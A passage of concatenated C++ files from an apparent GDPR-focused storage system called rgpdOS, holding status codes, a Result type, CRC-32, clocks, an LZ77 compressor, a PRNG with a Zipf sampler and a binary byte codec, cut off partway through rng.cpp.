  kFailedPrecondition,
  kOutOfRange,
  kResourceExhausted,
  kIoError,
  kCrashed,         ///< the (simulated) device lost power; all further IO fails
  kCorruption,
  kUnimplemented,
  kInternal,
  // GDPR-specific outcomes -------------------------------------------------
  kConsentDenied,   ///< the membrane's consent forbids this purpose
  kExpired,         ///< the PD's time-to-live has elapsed
  kAccessBlocked,   ///< the sentinel (LSM analogue) denied a domain crossing
  kSyscallDenied,   ///< the syscall filter (seccomp analogue) killed the call
  kPurposeMismatch, ///< ps_register: purpose does not match implementation
  kErased,          ///< the PD was crypto-erased (right to be forgotten)
  kRestricted,      ///< processing restricted (GDPR Art. 18)
  kObjected,        ///< subject objected (Art. 21) or opted out of
                    ///< automated decisions (Art. 22)
};

/// Human-readable name of a status code ("CONSENT_DENIED", ...).
std::string_view StatusCodeName(StatusCode code);

/// A cheap value type carrying a code and an optional message.
class Status {
 public:
  /// Default-constructed status is OK.
  Status() = default;
  Status(StatusCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  static Status Ok() { return Status(); }

  [[nodiscard]] bool ok() const { return code_ == StatusCode::kOk; }
  [[nodiscard]] StatusCode code() const { return code_; }
  [[nodiscard]] const std::string& message() const { return message_; }

  /// "CONSENT_DENIED: purpose 'ads' not consented by subject 42"
  [[nodiscard]] std::string ToString() const;

  friend bool operator==(const Status& a, const Status& b) {
    return a.code_ == b.code_;
  }

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
};

// Factory helpers, one per non-OK code.
Status NotFound(std::string msg);
Status AlreadyExists(std::string msg);
Status InvalidArgument(std::string msg);
Status PermissionDenied(std::string msg);
Status FailedPrecondition(std::string msg);
Status OutOfRange(std::string msg);
Status ResourceExhausted(std::string msg);
Status IoError(std::string msg);
Status Crashed(std::string msg);
Status Corruption(std::string msg);
Status Unimplemented(std::string msg);
Status Internal(std::string msg);
Status ConsentDenied(std::string msg);
Status Expired(std::string msg);
Status AccessBlocked(std::string msg);
Status SyscallDenied(std::string msg);
Status PurposeMismatch(std::string msg);
Status Erased(std::string msg);
Status Restricted(std::string msg);
Status Objected(std::string msg);

/// Thrown only by Result::value() on misuse (programming error, not a
/// runtime condition): callers are expected to test ok() first.
class BadResultAccess : public std::logic_error {
 public:
  explicit BadResultAccess(const Status& status)
      : std::logic_error("Result accessed while holding error: " +
                         status.ToString()) {}
};

/// Result<T> = Status | T. A minimal `expected`-style type: the standard
/// library shipped with this toolchain predates std::expected.
template <typename T>
class [[nodiscard]] Result {
 public:
  // NOLINTNEXTLINE(google-explicit-constructor): implicit by design, like
  // absl::StatusOr — lets `return value;` and `return ErrStatus;` both work.
  Result(T value) : value_(std::move(value)) {}
  // NOLINTNEXTLINE(google-explicit-constructor)
  Result(Status status) : status_(std::move(status)) {
    if (status_.ok()) {
      status_ = Internal("Result constructed from OK status without value");
    }
  }

  [[nodiscard]] bool ok() const { return value_.has_value(); }
  [[nodiscard]] const Status& status() const { return status_; }

  [[nodiscard]] T& value() & {
    if (!ok()) throw BadResultAccess(status_);
    return *value_;
  }
  [[nodiscard]] const T& value() const& {
    if (!ok()) throw BadResultAccess(status_);
    return *value_;
  }
  [[nodiscard]] T&& value() && {
    if (!ok()) throw BadResultAccess(status_);
    return std::move(*value_);
  }

  [[nodiscard]] T value_or(T fallback) const& {
    return ok() ? *value_ : std::move(fallback);
  }

  T* operator->() { return &value(); }
  const T* operator->() const { return &value(); }
  T& operator*() & { return value(); }
  const T& operator*() const& { return value(); }

 private:
  std::optional<T> value_;
  Status status_;
};

/// Propagate-on-error helper:  RGPD_RETURN_IF_ERROR(expr);
#define RGPD_RETURN_IF_ERROR(expr)                        \
  do {                                                    \
    ::rgpdos::Status rgpd_status_ = (expr);               \
    if (!rgpd_status_.ok()) return rgpd_status_;          \
  } while (false)

/// Bind-or-propagate helper:  RGPD_ASSIGN_OR_RETURN(auto v, SomeResult());
#define RGPD_ASSIGN_OR_RETURN(decl, expr)                 \
  RGPD_ASSIGN_OR_RETURN_IMPL_(                            \
      RGPD_STATUS_CONCAT_(rgpd_result_, __LINE__), decl, expr)
#define RGPD_ASSIGN_OR_RETURN_IMPL_(tmp, decl, expr)      \
  auto tmp = (expr);                                      \
  if (!tmp.ok()) return tmp.status();                     \
  decl = std::move(tmp).value()
#define RGPD_STATUS_CONCAT_(a, b) RGPD_STATUS_CONCAT_IMPL_(a, b)
#define RGPD_STATUS_CONCAT_IMPL_(a, b) a##b

}  // namespace rgpdos
