#include "common/status.hpp"

namespace rgpdos {

std::string_view StatusCodeName(StatusCode code) {
  switch (code) {
    case StatusCode::kOk: return "OK";
    case StatusCode::kNotFound: return "NOT_FOUND";
    case StatusCode::kAlreadyExists: return "ALREADY_EXISTS";
    case StatusCode::kInvalidArgument: return "INVALID_ARGUMENT";
    case StatusCode::kPermissionDenied: return "PERMISSION_DENIED";
    case StatusCode::kFailedPrecondition: return "FAILED_PRECONDITION";
    case StatusCode::kOutOfRange: return "OUT_OF_RANGE";
    case StatusCode::kResourceExhausted: return "RESOURCE_EXHAUSTED";
    case StatusCode::kIoError: return "IO_ERROR";
    case StatusCode::kCrashed: return "CRASHED";
    case StatusCode::kCorruption: return "CORRUPTION";
    case StatusCode::kUnimplemented: return "UNIMPLEMENTED";
    case StatusCode::kInternal: return "INTERNAL";
    case StatusCode::kConsentDenied: return "CONSENT_DENIED";
    case StatusCode::kExpired: return "EXPIRED";
    case StatusCode::kAccessBlocked: return "ACCESS_BLOCKED";
    case StatusCode::kSyscallDenied: return "SYSCALL_DENIED";
    case StatusCode::kPurposeMismatch: return "PURPOSE_MISMATCH";
    case StatusCode::kErased: return "ERASED";
    case StatusCode::kRestricted: return "RESTRICTED";
    case StatusCode::kObjected: return "OBJECTED";
  }
  return "UNKNOWN";
}

std::string Status::ToString() const {
  std::string out{StatusCodeName(code_)};
  if (!message_.empty()) {
    out += ": ";
    out += message_;
  }
  return out;
}

#define RGPD_STATUS_FACTORY(Name, Code)                 \
  Status Name(std::string msg) {                        \
    return Status(StatusCode::Code, std::move(msg));    \
  }

RGPD_STATUS_FACTORY(NotFound, kNotFound)
RGPD_STATUS_FACTORY(AlreadyExists, kAlreadyExists)
RGPD_STATUS_FACTORY(InvalidArgument, kInvalidArgument)
RGPD_STATUS_FACTORY(PermissionDenied, kPermissionDenied)
RGPD_STATUS_FACTORY(FailedPrecondition, kFailedPrecondition)
RGPD_STATUS_FACTORY(OutOfRange, kOutOfRange)
RGPD_STATUS_FACTORY(ResourceExhausted, kResourceExhausted)
RGPD_STATUS_FACTORY(IoError, kIoError)
RGPD_STATUS_FACTORY(Crashed, kCrashed)
RGPD_STATUS_FACTORY(Corruption, kCorruption)
RGPD_STATUS_FACTORY(Unimplemented, kUnimplemented)
RGPD_STATUS_FACTORY(Internal, kInternal)
RGPD_STATUS_FACTORY(ConsentDenied, kConsentDenied)
RGPD_STATUS_FACTORY(Expired, kExpired)
RGPD_STATUS_FACTORY(AccessBlocked, kAccessBlocked)
RGPD_STATUS_FACTORY(SyscallDenied, kSyscallDenied)
RGPD_STATUS_FACTORY(PurposeMismatch, kPurposeMismatch)
RGPD_STATUS_FACTORY(Erased, kErased)
RGPD_STATUS_FACTORY(Restricted, kRestricted)
RGPD_STATUS_FACTORY(Objected, kObjected)

#undef RGPD_STATUS_FACTORY

}  // namespace rgpdos
