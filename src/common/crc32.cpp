#include "common/crc32.hpp"

#include <array>

namespace rgpdos {

namespace {
constexpr std::array<std::uint32_t, 256> MakeTable() {
  std::array<std::uint32_t, 256> table{};
  for (std::uint32_t i = 0; i < 256; ++i) {
    std::uint32_t c = i;
    for (int k = 0; k < 8; ++k) {
      c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
    }
    table[i] = c;
  }
  return table;
}
constexpr auto kTable = MakeTable();
}  // namespace

void Crc32Accumulator::Update(ByteSpan data) {
  std::uint32_t c = state_;
  for (std::uint8_t b : data) {
    c = kTable[(c ^ b) & 0xFF] ^ (c >> 8);
  }
  state_ = c;
}

std::uint32_t Crc32(ByteSpan data) {
  Crc32Accumulator acc;
  acc.Update(data);
  return acc.value();
}

}  // namespace rgpdos
