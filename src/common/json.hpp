// The one JSON string escaper. Right-of-access exports, regulator
// exports, and metrics snapshots all emit JSON; RFC 8259 requires every
// control character U+0000–U+001F to be escaped, and a single shared
// implementation keeps the three exporters byte-identical (the metrics
// round-trip parser and the regulator-export determinism tests both
// depend on the exact output form).
#pragma once

#include <string>
#include <string_view>

namespace rgpdos {

/// Escape `text` for embedding inside a JSON string literal: `"` and
/// `\` are backslash-escaped, \n \r \t use their two-character forms,
/// and every remaining control character below U+0020 becomes \u00XX
/// (lowercase hex). Bytes >= 0x20 pass through untouched.
[[nodiscard]] std::string JsonEscape(std::string_view text);

}  // namespace rgpdos
