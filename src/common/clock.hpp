// Time sources. All TTL / expiry logic in rgpdOS takes a Clock so tests and
// benches can advance time deterministically (a membrane's `age: 1Y` must be
// testable without waiting a year).
//
// Thread-safety & monotonicity:
//   - Clock::Now() may be called from any thread on every implementation.
//   - SimClock reads/writes are relaxed atomics; Advance/Set are safe to
//     call while other threads read Now(). Now() is monotone as long as
//     only Advance (with non-negative delta) is used; Set can move time
//     backwards by design (tests).
//   - SystemClock is wall-clock time and therefore NOT monotone (NTP
//     steps can move it backwards). Use Stopwatch (steady_clock) for
//     durations; wall time is only for membrane timestamps.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>

namespace rgpdos {

/// Microseconds since the Unix epoch.
using TimeMicros = std::int64_t;

inline constexpr TimeMicros kMicrosPerSecond = 1'000'000;
inline constexpr TimeMicros kMicrosPerDay = 86'400 * kMicrosPerSecond;
/// Calendar-agnostic year used by membrane TTLs (365 days).
inline constexpr TimeMicros kMicrosPerYear = 365 * kMicrosPerDay;

/// Abstract time source.
class Clock {
 public:
  virtual ~Clock() = default;
  [[nodiscard]] virtual TimeMicros Now() const = 0;
};

/// Wall-clock time (benchmarks, examples).
class SystemClock final : public Clock {
 public:
  [[nodiscard]] TimeMicros Now() const override;
};

/// Manually advanced time (tests: TTL expiry, audit-log ordering).
class SimClock final : public Clock {
 public:
  explicit SimClock(TimeMicros start = 0) : now_(start) {}
  [[nodiscard]] TimeMicros Now() const override {
    return now_.load(std::memory_order_relaxed);
  }
  void Advance(TimeMicros delta) {
    now_.fetch_add(delta, std::memory_order_relaxed);
  }
  void Set(TimeMicros t) { now_.store(t, std::memory_order_relaxed); }

 private:
  std::atomic<TimeMicros> now_;
};

/// Monotonic nanosecond stopwatch for latency measurements inside the DED
/// pipeline (Fig-4 per-stage breakdown).
class Stopwatch {
 public:
  Stopwatch() { Restart(); }
  void Restart();
  /// Nanoseconds elapsed since construction / Restart().
  [[nodiscard]] std::int64_t ElapsedNanos() const;

 private:
  std::int64_t start_ns_ = 0;
};

}  // namespace rgpdos
