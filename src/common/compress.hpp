// Lossless byte compression for sealed log segments.
//
// A small, dependency-free LZ77 variant: greedy matching against a
// 64 KiB sliding window, 4-byte minimum match, hash-table candidate
// lookup. The token stream is self-delimiting:
//
//   0x00..0x7F  literal run: (token + 1) literal bytes follow (1..128)
//   0x80..0xFF  match: length = (token & 0x7F) + kMinMatch (4..131),
//               followed by a little-endian u16 back-offset (1..65535)
//
// Compression is deterministic (same input, same output — the regulator
// exporter depends on byte-stable artifacts), and decompression is fully
// bounds-checked: corrupt or truncated streams fail with kCorruption
// rather than reading out of range. The expected output size is passed
// to the decoder so a stream that decodes to the wrong length (a torn
// segment the CRC somehow missed) is rejected too.
#pragma once

#include <cstdint>

#include "common/bytes.hpp"
#include "common/status.hpp"

namespace rgpdos {

/// Compress `raw`. Always succeeds; worst-case expansion is
/// ~1/128 overhead on incompressible input.
Bytes LzCompress(ByteSpan raw);

/// Decompress a LzCompress stream; `raw_size` is the exact size the
/// output must have (from the segment header).
Result<Bytes> LzDecompress(ByteSpan compressed, std::uint64_t raw_size);

}  // namespace rgpdos
