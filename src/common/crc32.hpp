// CRC-32 (IEEE 802.3 polynomial). Used by the inode filesystem's journal to
// detect torn/partial commits, and by block-level integrity checks.
#pragma once

#include <cstdint>

#include "common/bytes.hpp"

namespace rgpdos {

/// One-shot CRC-32 of a buffer.
std::uint32_t Crc32(ByteSpan data);

/// Incremental CRC-32 (feed chunks, then value()).
class Crc32Accumulator {
 public:
  void Update(ByteSpan data);
  [[nodiscard]] std::uint32_t value() const { return state_ ^ 0xFFFFFFFFu; }

 private:
  std::uint32_t state_ = 0xFFFFFFFFu;
};

}  // namespace rgpdos
