#include "common/clock.hpp"

#include <chrono>

namespace rgpdos {

TimeMicros SystemClock::Now() const {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::system_clock::now().time_since_epoch())
      .count();
}

namespace {
std::int64_t MonotonicNanos() {
  return std::chrono::duration_cast<std::chrono::nanoseconds>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}
}  // namespace

void Stopwatch::Restart() { start_ns_ = MonotonicNanos(); }

std::int64_t Stopwatch::ElapsedNanos() const {
  return MonotonicNanos() - start_ns_;
}

}  // namespace rgpdos
