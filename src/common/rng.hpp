// Deterministic PRNG (xoshiro256**) for workload generation and
// property-test sweeps. Not cryptographic: key material comes from
// crypto::SecureRandom, which mixes this generator with entropy.
#pragma once

#include <cstdint>
#include <string>

namespace rgpdos {

/// xoshiro256** — fast, high-quality, reproducible across platforms.
class Rng {
 public:
  explicit Rng(std::uint64_t seed = 0x9E3779B97F4A7C15ULL);

  std::uint64_t NextU64();
  /// Uniform in [0, bound). bound must be > 0.
  std::uint64_t NextBelow(std::uint64_t bound);
  /// Uniform in [lo, hi] inclusive.
  std::int64_t NextInRange(std::int64_t lo, std::int64_t hi);
  /// Uniform double in [0, 1).
  double NextDouble();
  /// Bernoulli trial.
  bool NextBool(double p_true = 0.5);
  /// Lowercase ASCII identifier of the given length.
  std::string NextName(std::size_t length);

 private:
  static std::uint64_t SplitMix64(std::uint64_t& state);
  std::uint64_t s_[4];
};

/// Zipfian sampler over [0, n): models skewed subject popularity the way
/// GDPRbench does. Uses the classic rejection-inversion-free CDF walk with
/// precomputed normalisation (adequate for n up to a few million).
class Zipf {
 public:
  Zipf(std::uint64_t n, double theta, std::uint64_t seed = 42);
  std::uint64_t Next();

  [[nodiscard]] std::uint64_t n() const { return n_; }
  [[nodiscard]] double theta() const { return theta_; }

 private:
  std::uint64_t n_;
  double theta_;
  double alpha_;
  double zetan_;
  double eta_;
  Rng rng_;
};

}  // namespace rgpdos
