// Deterministic PRNG (xoshiro256**) for workload generation and
// property-test sweeps. Not cryptographic: key material comes from
// crypto::SecureRandom, which mixes this generator with entropy.
//
// Thread-safety: an Rng instance is NOT safe for concurrent use (NextU64
// mutates the 256-bit state non-atomically). Concurrent code takes one
// stream per thread instead: either a local `Rng(Rng::StreamSeed(seed,
// i))` per worker (what DedExecutor does, so seeded runs stay
// deterministic per worker regardless of scheduling), or the
// thread-local ThreadRng() below.
#pragma once

#include <cstdint>
#include <string>

namespace rgpdos {

/// xoshiro256** — fast, high-quality, reproducible across platforms.
class Rng {
 public:
  explicit Rng(std::uint64_t seed = 0x9E3779B97F4A7C15ULL);

  /// Seed for the `stream`-th independent stream derived from a boot
  /// seed: the same (seed, stream) pair always yields the same sequence,
  /// and distinct streams are decorrelated by an extra SplitMix64 round
  /// over the golden-ratio-spaced stream index.
  [[nodiscard]] static std::uint64_t StreamSeed(std::uint64_t seed,
                                               std::uint64_t stream);

  std::uint64_t NextU64();
  /// Uniform in [0, bound). bound must be > 0.
  std::uint64_t NextBelow(std::uint64_t bound);
  /// Uniform in [lo, hi] inclusive.
  std::int64_t NextInRange(std::int64_t lo, std::int64_t hi);
  /// Uniform double in [0, 1).
  double NextDouble();
  /// Bernoulli trial.
  bool NextBool(double p_true = 0.5);
  /// Lowercase ASCII identifier of the given length.
  std::string NextName(std::size_t length);

 private:
  static std::uint64_t SplitMix64(std::uint64_t& state);
  std::uint64_t s_[4];
};

/// Zipfian sampler over [0, n): models skewed subject popularity the way
/// GDPRbench does. Uses the classic rejection-inversion-free CDF walk with
/// precomputed normalisation (adequate for n up to a few million).
class Zipf {
 public:
  Zipf(std::uint64_t n, double theta, std::uint64_t seed = 42);
  std::uint64_t Next();

  [[nodiscard]] std::uint64_t n() const { return n_; }
  [[nodiscard]] double theta() const { return theta_; }

 private:
  std::uint64_t n_;
  double theta_;
  double alpha_;
  double zetan_;
  double eta_;
  Rng rng_;
};

/// Reseed the calling thread's ThreadRng() stream to (seed, stream).
/// Worker pools call this once at thread start so every worker draws from
/// a deterministic stream derived from the boot seed.
void SeedThreadRng(std::uint64_t seed, std::uint64_t stream);

/// The calling thread's private generator. Lazily seeded from the default
/// seed and a process-wide thread ordinal if SeedThreadRng was never
/// called on this thread. Never shared, so no synchronisation is needed.
[[nodiscard]] Rng& ThreadRng();

}  // namespace rgpdos
