#include "common/compress.hpp"

#include <algorithm>
#include <array>
#include <climits>

namespace rgpdos {

namespace {

constexpr std::size_t kMinMatch = 4;
constexpr std::size_t kMaxMatch = kMinMatch + 0x7F;  // 131
constexpr std::size_t kMaxOffset = 0xFFFF;           // 64 KiB window
constexpr std::size_t kMaxLiteralRun = 0x80;         // 128
constexpr std::size_t kHashBits = 15;
constexpr std::size_t kHashSize = 1u << kHashBits;

std::uint32_t Hash4(const std::uint8_t* p) {
  std::uint32_t v;
  std::memcpy(&v, p, sizeof(v));
  return (v * 2654435761u) >> (32 - kHashBits);
}

void FlushLiterals(const std::uint8_t* base, std::size_t begin,
                   std::size_t end, Bytes& out) {
  while (begin < end) {
    const std::size_t run = std::min(end - begin, kMaxLiteralRun);
    out.push_back(static_cast<std::uint8_t>(run - 1));
    out.insert(out.end(), base + begin, base + begin + run);
    begin += run;
  }
}

}  // namespace

Bytes LzCompress(ByteSpan raw) {
  Bytes out;
  out.reserve(raw.size() / 2 + 16);
  const std::uint8_t* data = raw.data();
  const std::size_t n = raw.size();
  // head[h] = most recent position whose 4-byte prefix hashed to h.
  std::array<std::size_t, kHashSize> head;
  head.fill(SIZE_MAX);

  std::size_t literal_start = 0;
  std::size_t pos = 0;
  while (pos + kMinMatch <= n) {
    const std::uint32_t h = Hash4(data + pos);
    const std::size_t candidate = head[h];
    head[h] = pos;
    std::size_t match_len = 0;
    if (candidate != SIZE_MAX && pos - candidate <= kMaxOffset) {
      const std::size_t limit = std::min(n - pos, kMaxMatch);
      while (match_len < limit &&
             data[candidate + match_len] == data[pos + match_len]) {
        ++match_len;
      }
    }
    if (match_len >= kMinMatch) {
      FlushLiterals(data, literal_start, pos, out);
      out.push_back(
          static_cast<std::uint8_t>(0x80 | (match_len - kMinMatch)));
      const std::size_t offset = pos - candidate;
      out.push_back(static_cast<std::uint8_t>(offset & 0xFF));
      out.push_back(static_cast<std::uint8_t>(offset >> 8));
      // Index the interior of the match too (cheap, improves repeated
      // structured records a lot), then continue past it.
      const std::size_t match_end = pos + match_len;
      for (++pos; pos + kMinMatch <= n && pos < match_end; ++pos) {
        head[Hash4(data + pos)] = pos;
      }
      pos = match_end;
      literal_start = pos;
    } else {
      ++pos;
    }
  }
  FlushLiterals(data, literal_start, n, out);
  return out;
}

Result<Bytes> LzDecompress(ByteSpan compressed, std::uint64_t raw_size) {
  Bytes out;
  out.reserve(raw_size);
  std::size_t pos = 0;
  const std::size_t n = compressed.size();
  while (pos < n) {
    const std::uint8_t token = compressed[pos++];
    if ((token & 0x80) == 0) {
      const std::size_t run = static_cast<std::size_t>(token) + 1;
      if (pos + run > n) {
        return Corruption("lz: literal run past end of stream");
      }
      out.insert(out.end(), compressed.begin() + pos,
                 compressed.begin() + pos + run);
      pos += run;
    } else {
      if (pos + 2 > n) return Corruption("lz: truncated match token");
      const std::size_t len = (token & 0x7F) + kMinMatch;
      const std::size_t offset =
          compressed[pos] | (static_cast<std::size_t>(compressed[pos + 1]) << 8);
      pos += 2;
      if (offset == 0 || offset > out.size()) {
        return Corruption("lz: match offset out of range");
      }
      // Byte-at-a-time copy: overlapping matches (offset < len) are the
      // RLE case and must see their own freshly copied bytes.
      std::size_t src = out.size() - offset;
      for (std::size_t i = 0; i < len; ++i) {
        out.push_back(out[src + i]);
      }
    }
    if (out.size() > raw_size) {
      return Corruption("lz: stream decodes past declared size");
    }
  }
  if (out.size() != raw_size) {
    return Corruption("lz: stream decodes to wrong size");
  }
  return out;
}

}  // namespace rgpdos
