// Byte-buffer vocabulary plus a small, explicit binary codec.
//
// Every on-"disk" structure in rgpdOS (inodes, journal records, rows,
// membranes) is encoded through ByteWriter/ByteReader so that layouts are
// deterministic, endian-stable and — crucially for the leak experiments —
// directly scannable from raw device blocks.
#pragma once

#include <cstdint>
#include <cstring>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "common/status.hpp"

namespace rgpdos {

using Bytes = std::vector<std::uint8_t>;
using ByteSpan = std::span<const std::uint8_t>;

/// Build a Bytes buffer from a string literal / string_view payload.
Bytes ToBytes(std::string_view text);
/// Interpret a byte buffer as text (no validation; test/debug helper).
std::string ToString(ByteSpan bytes);

/// True if `needle` occurs anywhere inside `haystack`. Used by the
/// Fig-2 experiments to scavenge raw blocks for leaked plaintext PD.
bool ContainsSubsequence(ByteSpan haystack, ByteSpan needle);

/// Append-only little-endian encoder.
class ByteWriter {
 public:
  ByteWriter() = default;
  /// Start with a reserve hint to avoid rehash-style growth in hot paths.
  explicit ByteWriter(std::size_t reserve_hint) { buf_.reserve(reserve_hint); }

  void PutU8(std::uint8_t v) { buf_.push_back(v); }
  void PutU16(std::uint16_t v) { PutLe(v); }
  void PutU32(std::uint32_t v) { PutLe(v); }
  void PutU64(std::uint64_t v) { PutLe(v); }
  void PutI64(std::int64_t v) { PutLe(static_cast<std::uint64_t>(v)); }
  void PutF64(double v) {
    std::uint64_t bits;
    std::memcpy(&bits, &v, sizeof(bits));
    PutLe(bits);
  }
  void PutBool(bool v) { PutU8(v ? 1 : 0); }

  /// LEB128-style unsigned varint; compact for small lengths and ids.
  void PutVarint(std::uint64_t v);

  /// Length-prefixed (varint) byte string.
  void PutBytes(ByteSpan bytes);
  void PutString(std::string_view s);

  /// Raw append without a length prefix (caller controls framing).
  void PutRaw(ByteSpan bytes);

  [[nodiscard]] std::size_t size() const { return buf_.size(); }
  [[nodiscard]] const Bytes& buffer() const { return buf_; }
  Bytes Take() { return std::move(buf_); }

 private:
  template <typename T>
  void PutLe(T v) {
    for (std::size_t i = 0; i < sizeof(T); ++i) {
      buf_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
    }
  }
  Bytes buf_;
};

/// Bounds-checked little-endian decoder over a borrowed span.
/// All getters return Status-bearing results: corrupt and truncated input
/// is an expected condition when reading raw device blocks.
class ByteReader {
 public:
  explicit ByteReader(ByteSpan data) : data_(data) {}

  [[nodiscard]] std::size_t remaining() const { return data_.size() - pos_; }
  [[nodiscard]] std::size_t position() const { return pos_; }
  [[nodiscard]] bool exhausted() const { return pos_ == data_.size(); }

  Result<std::uint8_t> GetU8();
  Result<std::uint16_t> GetU16();
  Result<std::uint32_t> GetU32();
  Result<std::uint64_t> GetU64();
  Result<std::int64_t> GetI64();
  Result<double> GetF64();
  Result<bool> GetBool();
  Result<std::uint64_t> GetVarint();
  Result<Bytes> GetBytes();
  Result<std::string> GetString();
  /// Read exactly `n` raw bytes (no length prefix).
  Result<Bytes> GetRaw(std::size_t n);
  /// Skip `n` bytes.
  Status Skip(std::size_t n);

 private:
  template <typename T>
  Result<T> GetLe() {
    if (remaining() < sizeof(T)) {
      return Corruption("byte reader: truncated fixed-width field");
    }
    T v = 0;
    for (std::size_t i = 0; i < sizeof(T); ++i) {
      v |= static_cast<T>(data_[pos_ + i]) << (8 * i);
    }
    pos_ += sizeof(T);
    return v;
  }
  ByteSpan data_;
  std::size_t pos_ = 0;
};

}  // namespace rgpdos
