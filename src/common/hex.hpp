// Hex encoding/decoding, used for key fingerprints, ids in exports, and
// crypto test vectors.
#pragma once

#include <string>
#include <string_view>

#include "common/bytes.hpp"
#include "common/status.hpp"

namespace rgpdos {

/// Lowercase hex string of a byte buffer.
std::string HexEncode(ByteSpan data);

/// Parse hex (case-insensitive). Fails on odd length or non-hex chars.
Result<Bytes> HexDecode(std::string_view hex);

}  // namespace rgpdos
