#include "common/bytes.hpp"

#include <algorithm>

namespace rgpdos {

Bytes ToBytes(std::string_view text) {
  return Bytes(text.begin(), text.end());
}

std::string ToString(ByteSpan bytes) {
  return std::string(bytes.begin(), bytes.end());
}

bool ContainsSubsequence(ByteSpan haystack, ByteSpan needle) {
  if (needle.empty()) return true;
  if (needle.size() > haystack.size()) return false;
  auto it = std::search(haystack.begin(), haystack.end(), needle.begin(),
                        needle.end());
  return it != haystack.end();
}

void ByteWriter::PutVarint(std::uint64_t v) {
  while (v >= 0x80) {
    buf_.push_back(static_cast<std::uint8_t>(v) | 0x80);
    v >>= 7;
  }
  buf_.push_back(static_cast<std::uint8_t>(v));
}

void ByteWriter::PutBytes(ByteSpan bytes) {
  PutVarint(bytes.size());
  PutRaw(bytes);
}

void ByteWriter::PutString(std::string_view s) {
  PutVarint(s.size());
  buf_.insert(buf_.end(), s.begin(), s.end());
}

void ByteWriter::PutRaw(ByteSpan bytes) {
  buf_.insert(buf_.end(), bytes.begin(), bytes.end());
}

Result<std::uint8_t> ByteReader::GetU8() { return GetLe<std::uint8_t>(); }
Result<std::uint16_t> ByteReader::GetU16() { return GetLe<std::uint16_t>(); }
Result<std::uint32_t> ByteReader::GetU32() { return GetLe<std::uint32_t>(); }
Result<std::uint64_t> ByteReader::GetU64() { return GetLe<std::uint64_t>(); }

Result<std::int64_t> ByteReader::GetI64() {
  RGPD_ASSIGN_OR_RETURN(std::uint64_t v, GetLe<std::uint64_t>());
  return static_cast<std::int64_t>(v);
}

Result<double> ByteReader::GetF64() {
  RGPD_ASSIGN_OR_RETURN(std::uint64_t bits, GetLe<std::uint64_t>());
  double v;
  std::memcpy(&v, &bits, sizeof(v));
  return v;
}

Result<bool> ByteReader::GetBool() {
  RGPD_ASSIGN_OR_RETURN(std::uint8_t v, GetU8());
  if (v > 1) return Corruption("byte reader: bool out of range");
  return v == 1;
}

Result<std::uint64_t> ByteReader::GetVarint() {
  std::uint64_t v = 0;
  for (unsigned shift = 0; shift < 64; shift += 7) {
    if (exhausted()) return Corruption("byte reader: truncated varint");
    std::uint8_t b = data_[pos_++];
    v |= static_cast<std::uint64_t>(b & 0x7F) << shift;
    if ((b & 0x80) == 0) return v;
  }
  return Corruption("byte reader: varint exceeds 64 bits");
}

Result<Bytes> ByteReader::GetBytes() {
  RGPD_ASSIGN_OR_RETURN(std::uint64_t len, GetVarint());
  return GetRaw(static_cast<std::size_t>(len));
}

Result<std::string> ByteReader::GetString() {
  RGPD_ASSIGN_OR_RETURN(Bytes raw, GetBytes());
  return std::string(raw.begin(), raw.end());
}

Result<Bytes> ByteReader::GetRaw(std::size_t n) {
  if (remaining() < n) {
    return Corruption("byte reader: truncated raw field");
  }
  Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
            data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
  pos_ += n;
  return out;
}

Status ByteReader::Skip(std::size_t n) {
  if (remaining() < n) return Corruption("byte reader: skip past end");
  pos_ += n;
  return Status::Ok();
}

}  // namespace rgpdos
