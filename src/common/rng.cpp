#include "common/rng.hpp"

#include <atomic>
#include <cmath>

namespace rgpdos {

namespace {
inline std::uint64_t Rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}
}  // namespace

std::uint64_t Rng::SplitMix64(std::uint64_t& state) {
  std::uint64_t z = (state += 0x9E3779B97F4A7C15ULL);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

Rng::Rng(std::uint64_t seed) {
  std::uint64_t sm = seed;
  for (auto& s : s_) s = SplitMix64(sm);
}

std::uint64_t Rng::StreamSeed(std::uint64_t seed, std::uint64_t stream) {
  // Space streams by the golden ratio and scramble once so stream 0 with
  // seed s and stream 1 with seed s-phi do not collide.
  std::uint64_t sm = seed + (stream + 1) * 0x9E3779B97F4A7C15ULL;
  return SplitMix64(sm);
}

std::uint64_t Rng::NextU64() {
  const std::uint64_t result = Rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = Rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::NextBelow(std::uint64_t bound) {
  // Debiased via rejection of the top sliver.
  const std::uint64_t threshold = -bound % bound;
  for (;;) {
    const std::uint64_t r = NextU64();
    if (r >= threshold) return r % bound;
  }
}

std::int64_t Rng::NextInRange(std::int64_t lo, std::int64_t hi) {
  const auto span = static_cast<std::uint64_t>(hi - lo) + 1;
  return lo + static_cast<std::int64_t>(NextBelow(span));
}

double Rng::NextDouble() {
  return static_cast<double>(NextU64() >> 11) * 0x1.0p-53;
}

bool Rng::NextBool(double p_true) { return NextDouble() < p_true; }

std::string Rng::NextName(std::size_t length) {
  std::string out;
  out.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    out.push_back(static_cast<char>('a' + NextBelow(26)));
  }
  return out;
}

namespace {
double Zeta(std::uint64_t n, double theta) {
  double sum = 0;
  for (std::uint64_t i = 1; i <= n; ++i) sum += 1.0 / std::pow(double(i), theta);
  return sum;
}
}  // namespace

Zipf::Zipf(std::uint64_t n, double theta, std::uint64_t seed)
    : n_(n), theta_(theta), rng_(seed) {
  zetan_ = Zeta(n, theta);
  const double zeta2 = Zeta(2, theta);
